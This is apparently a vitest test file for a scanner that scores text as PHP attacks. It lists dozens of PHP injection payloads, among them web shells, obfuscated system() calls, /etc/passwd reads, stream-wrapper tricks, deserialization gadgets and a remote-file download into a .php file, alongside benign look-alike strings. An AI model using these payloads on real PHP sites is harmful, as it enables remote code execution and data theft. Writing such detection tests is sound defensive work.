// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks and texts are written like that
import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  "array_filter(['id'],'system')",
  "usort($_GET,'system')",
  'reset(getallheaders())',
  "array_map('sys'.'tem',array('id'))",
  "ob_start('system');",
  '@ini_set("display_errors","0");@set_time_limit(0);',
  'putenv("LD_PRELOAD=/srv/x.so")',
  "';exit(md5('zz1'));//",
  "'.md5(31337).'",
  'echo md5("abc-99");',
  'system(end(getallheaders()));',
  "strrev('metsys')('id');",
  "copy('https://203.0.113.9/a.txt','up/b.php');",
  'FFI::cdef("int system(char *c);")',
  "zerodiumsystem('id');",
  'GLOBALS[x]=1',
  'sess|O:8:"Gadget01":1:{s:3:"cmd";s:2:"id";}',
  'vid:msl:/tmp/php*',
  "(new SplFileObject('/etc/hosts'))->fpassthru()",
  "(system)('id');",
  '("sys"."tem")("id");',
  '[system][0](ls)',
  'extract($_GET);',
  "readfile('/etc/passwd')",
  "new ReflectionFunction('system')",
  "<?php system($_GET['cmd']); ?>",
  '<?=`$_GET[0]`?>',
  "system('id');",
  'system("ls -la")',
  ';phpinfo();',
  "eval(base64_decode('cGhw'))",
  "assert($_POST['x'])",
  'php://filter/convert.base64-encode/resource=index.php',
  'data://text/plain;base64,PD9waHA=',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  '${@print(md5(31337))}',
  'auto_prepend_file=php://input',
  "file_put_contents('x.php','a')",
  'call_user_func_array&vars[0]=system',
  '2|system(id)|1',
  'AddHandler php-script .gif',
  'AddType application/x-httpd-php .jpg',
  'php_value auto_append_file /tmp/a',
  'a:2:{s:5:"login";s:5:"admin";s:8:"password";b:1;}',
  'a:2:{s:4:"hash";N;s:9:"signature";R:2;}',
  "exec /* a */ ('id')",
  "define('f','pass'.'thru');(f)('id');",
  '$__[@o](4)',
  'index/\\think\\app/invokefunction',
]

const harmless: readonly string[] = [
  "<?= $this->Html->link(__('Edit'), ['action' => 'edit']) ?>",
  '<?= htmlspecialchars($title, ENT_QUOTES) ?>',
  'echo md5($password);',
  "'avatar-' . md5($mail) . '.png'",
  'How do shell_exec() and passthru() differ?',
  'the system (see below) (again)',
  'open the file (see a.b) now',
  'read.file(name)',
  '(a.b)(c) is a product',
  'print the report (final)',
  'data: see below',
  'system (id) required',
  "The system('s) power",
  'eval is evil',
  'exec summary (draft)',
  'a:1:{b}',
  '12:30:45 {x}',
  'a <? b',
  'echo chamber (music)',
  'data:image/png;base64,iVBORw0KGgo=',
  'lambda:InvokeFunction',
  'How do I use AddType in Apache?',
  's:8:"password" is how PHP writes it',
]

describe('PHP code', () => {
  it.each([
    "array_map('trim', $names)",
    "usort($items, fn($a, $b) => $a['n'] <=> $b['n']);",
    'call_user_func($callback, $value);',
    "ini_set('display_errors', '1'); error_reporting(E_ALL);",
    'base64_decode($token)',
  ])('that calls what it names is not refused: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(80)
  })

  it.each([
    'Replace `eval($code)` with a parser',
    'fix: `shell_exec($cmd)` hangs on Windows',
    'why is `phpinfo()` empty?',
    '[mysql] [php] prepared statements',
    'tagged [php] or [javascript]',
  ])('that is named between words is not refused: %s', (value) => expect(totalOf(value)).toBeLessThan(60))

  it.each([
    'return print `phpinfo()`;eval($x);',
    '`eval($code)`',
    'some words here and `system($_GET[0])`',
    'some words; and `eval($code)`;eval($x)',
    'a note with `<?php phpinfo();`',
    '[php]phpinfo',
    '[php] echo 7;',
  ])('that could run between words is: %s', (value) => expect(familyTotalOf('php', value)).toBeGreaterThanOrEqual(80))

  it.each(attacks)('are denied: %s', (value) => {
    expect(familyTotalOf('php', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('do not look like: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(40)
  })
})
